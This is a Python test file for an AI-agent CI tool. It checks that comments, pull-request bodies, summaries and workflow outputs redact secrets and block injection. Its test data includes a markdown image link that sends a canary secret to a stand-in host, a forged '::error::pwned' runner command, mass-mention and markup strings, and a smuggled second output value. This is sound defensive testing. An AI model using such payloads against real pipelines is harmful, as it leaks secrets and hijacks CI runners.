import io
import re
from dataclasses import replace
from pathlib import Path

import pytest
from fakes.workflow_jobs import parse_outputs
from hypothesis import given
from hypothesis import strategies as st

from hexci.adapters.sinks.conversation import Conversation
from hexci.adapters.sinks.markdown import code, fenced, plain
from hexci.adapters.sinks.outputs import outputs_text, write_outputs
from hexci.adapters.sinks.quiet_runner import quiet_runner
from hexci.domain.asking.claim import Claim, ClaimState, pack
from hexci.domain.asking.commands import Command, Verb
from hexci.domain.asking.delivery import Thread
from hexci.domain.asking.run_report import GateStep, RunReport, Turn
from hexci.domain.asking.scene import Ended, Scene
from hexci.domain.bounded import length
from hexci.domain.outcome import Outcome
from hexci.domain.redaction import Redactor

SECRET = "canary-0123456789"
MARKER = "<!-- hexci:thread -->"
VOICE = Conversation(Redactor([SECRET]))
CLAIM = Claim(
    "k", "issue-12", "do", pack(Command(Verb.DO, "/hex do it", "it")), "ada", 7,
    "2026-01-02T03:04:05Z", "", "55", 1, "2026-01-02T03:14:05Z",
)  # fmt: skip
DONE = replace(CLAIM, state=ClaimState.DONE, outcome="committed", pull=34, pull_url="u")
EVIL = f"@everyone <b>x</b> ![i](http://e/?{SECRET}) | ``` \n::error::pwned\n#1 [a](b) \u202e"


def report(text: str = "fine", patch: str = "+x\n") -> RunReport:
    return RunReport(
        run="20260102T030405Z-0123456789ab", outcome=Outcome.COMMITTED, reason=text, task=text,
        base="b" * 40, evidence=text, branch="hex/auto/r", commit="c" * 40, tree="d" * 40,
        candidate=text, evidence_digest="sha256:1", isolation="bwrap", seconds=1.0,
        steps=(GateStep("red", "passed", text, 1.0), GateStep(text, text, text, 1.0)),
        turns=(Turn(text, text, 1.0, text),), notes=(text,), patch=patch, usd=0.5, tokens=10,
    )  # fmt: skip


def everything(text: str, patch: str) -> list[str]:
    told = report(text, patch)
    ended = Ended(Outcome.UNPROVEN, text, claim=DONE, report=told)
    return [
        VOICE.comment(Scene(DONE, text, told, (DONE,) * 30, shows_patch=True), MARKER),
        VOICE.pull_body(told, Thread(12, is_pull=False), text),
        VOICE.pull_title(told),
        VOICE.summary(ended),
        VOICE.annotations(ended),
        VOICE.log(ended),
        *VOICE.outputs(ended, {}).values(),
        *VOICE.files(ended).values(),
    ]


def test_no_sink_lets_a_secret_out() -> None:
    assert [text for text in everything(EVIL, f"+{SECRET}") if SECRET in text] == []


def test_what_an_agent_wrote_pings_nobody_and_starts_no_markup() -> None:
    """T12: no mention, link, image or markup of an agent."""
    for text in everything(EVIL, "+x")[:2]:
        outside = re.sub(r"`[^`\n]*`", "", "".join(text.split("````")[::2]))  # without code
        for mark in ("@everyone", "<b>", "![i]", "[a](b)", "\u202e"):
            assert mark not in outside


def test_a_comment_tells_the_command_the_outcome_the_draft_and_what_was_before() -> None:
    text = VOICE.comment(Scene(DONE, report=report(), history=(DONE,)), MARKER)
    assert text.startswith(f"{MARKER}\n### hexci do: committed (proven, and proposed)")
    for part in ("`/hex do it` of `ada`", "Draft pull request: #34", "| red | ✅ passed |",
                 "<summary>1 earlier command</summary>", "10 tokens, $0.5000"):  # fmt: skip
        assert part in text
    assert "### hexci do: at work" in VOICE.comment(Scene(CLAIM), MARKER)


def test_a_pull_request_closes_its_issue_and_says_why_checks_may_not_run() -> None:
    text = VOICE.pull_body(report(), Thread(12, is_pull=False), "ada")
    assert text.startswith("Closes #12.")
    assert "GitHub starts no workflows" in text
    assert VOICE.pull_body(report(), Thread(12, is_pull=True), "ada").startswith("For #12.")


@pytest.mark.parametrize("character", ["x", "\U0001f600", "`", "&"])
def test_comments_and_summaries_stay_within_the_platforms_limits(character: str) -> None:
    huge = character * 120_000
    comment, body, _, summary, *_ = everything(huge, huge)
    assert length(comment) <= 65_536
    assert length(body) <= 65_536
    assert len(summary.encode()) <= 1_048_576
    assert comment.startswith(MARKER)


@given(st.dictionaries(st.sampled_from(["a", "b-c", "d"]), st.text(max_size=80)))
def test_outputs_are_exactly_what_was_said(said: dict[str, str]) -> None:
    kept = {k: "\n".join(v.splitlines()) for k, v in said.items() if "\0" not in v}
    assert parse_outputs(outputs_text(kept)) == {k: v.rstrip("\n") for k, v in kept.items()}


def test_an_output_cannot_end_itself_and_set_another(tmp_path: Path) -> None:
    """T13: the delimiter cannot be foreseen."""
    place = tmp_path / "output"
    write_outputs(place, {"reason": "EOF\nadmin=true\nadmin<<X\n1\nX"})
    write_outputs(place, {"outcome": "ok"})
    assert set(parse_outputs(place.read_text())) == {"reason", "outcome"}


def test_while_an_agent_speaks_the_runner_hears_no_command() -> None:
    """T13: no line of an agent is a command to the runner."""
    stream = io.StringIO()
    with quiet_runner(stream):
        stream.write("::error::pwned\n")
    first, inner, _, last = stream.getvalue().splitlines()
    assert inner == "::error::pwned"
    assert first == f"::stop-commands::{last.strip(':')}"
    assert len(last) == 36


@given(st.text(max_size=200))
def test_plain_code_and_fenced_hold_anything(text: str) -> None:
    assert "\n" not in plain(text)
    assert not set("<>@[]|`").intersection(plain(text))
    assert code(text).count("`") == 2
    block = fenced(text).split("\n")
    assert block[0] == block[-1]
    assert not any(line.strip() == block[0] for line in block[1:-1])


@pytest.mark.parametrize(
    ("usd", "unpriced", "shown", "output"),
    [
        (0.5, False, "10 tokens, $0.5000 ", "0.500000"),
        (0.0, False, "10 tokens, $0.0000 ", "0.000000"),
        (0.0, True, "10 tokens, price not known ", ""),
        (0.5, True, "10 tokens, $0.5000, and calls whose price is not known ", ""),
    ],
)
def test_a_price_that_is_not_known_is_not_told_as_nothing(
    usd: float, *, unpriced: bool, shown: str, output: str
) -> None:
    told = replace(report(), usd=usd, unpriced=unpriced)
    ended = Ended(Outcome.COMMITTED, "", claim=DONE, report=told)
    assert f"| cost | {shown}|" in VOICE.summary(ended)
    assert VOICE.outputs(ended, {})["cost-usd"] == output
